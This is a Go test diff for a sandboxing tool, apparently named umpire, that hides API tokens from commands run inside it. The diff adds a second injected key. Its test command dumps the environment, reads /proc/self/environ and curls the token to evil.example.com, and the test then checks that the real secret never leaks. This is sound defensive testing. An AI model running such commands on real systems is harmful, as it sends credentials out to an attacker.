@@ -18,8 +18,8 @@ func TestRunSecrets(t *testing.T) {
 	}
 	bin, dir := program(t), project(t)
 	home := filepath.Dir(dir)
-	const value = "the-secret-of-this-test"
-	env := append(os.Environ(), "HOME="+home, "API_TOKEN="+value)
+	const value, given = "the-secret-of-this-test", "a-key-that-the-box-has"
+	env := append(os.Environ(), "HOME="+home, "API_TOKEN="+value, "GIVEN_KEY="+given)
 	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
 	defer cancel()
 	umpire := func(more []string, args ...string) string {
@@ -41,8 +41,8 @@ func TestRunSecrets(t *testing.T) {
 		t.Fatal(err)
 	}
 	at := servedAt(ctx, t, bin, dir, env)
-	out := umpire([]string{"UMPIRE_SERVER=http://" + at["all"]}, "run", "--proxy", at["proxy"], "--env", "API_TOKEN", "--", "sh", "-c",
-		`echo "token $API_TOKEN"; grep -c BEGIN "$SSL_CERT_FILE" >/dev/null && echo trusted; env; cat `+file+`; tr '\0' '\n' </proc/self/environ; curl -sS -H "Authorization: $API_TOKEN" http://evil.example.com/`)
+	out := umpire([]string{"UMPIRE_SERVER=http://" + at["all"]}, "run", "--proxy", at["proxy"], "--env", "API_TOKEN", "--env", "GIVEN_KEY", "--", "sh", "-c",
+		`echo "token $API_TOKEN"; [ "$GIVEN_KEY" = `+given+` ] && touch changed; grep -c BEGIN "$SSL_CERT_FILE" >/dev/null && echo trusted; env; cat `+file+`; tr '\0' '\n' </proc/self/environ; curl -sS -H "Authorization: $API_TOKEN" http://evil.example.com/`)
 	for _, want := range []string{"token umpire:api:", "trusted\n", "NODE_EXTRA_CA_CERTS=", "the placeholder of the secret api is not for evil.example.com"} {
 		if !strings.Contains(out, want) {
 			t.Errorf("no %q in\n%s", want, out)
@@ -53,11 +53,14 @@ func TestRunSecrets(t *testing.T) {
 			return err
 		}
 		b, err := os.ReadFile(path)
-		if strings.Contains(string(b), value) {
+		if strings.Contains(string(b), value) || filepath.Base(path) == "run.json" && strings.Contains(strings.ReplaceAll(string(b), "= "+given, ""), given) {
 			t.Errorf("%s has the secret", path)
 		}
 		return err
 	})
+	if runs, bad := filepath.Glob(filepath.Join(home, ".local", "state", "umpire", "runs", "*", "run.json")); bad != nil || len(runs) != 1 {
+		t.Errorf("what is kept of the run: %v, %v", runs, bad)
+	}
 	if err != nil || strings.Contains(out, value) {
 		t.Errorf("the box has the secret, or %v:\n%s", err, out)
 	}
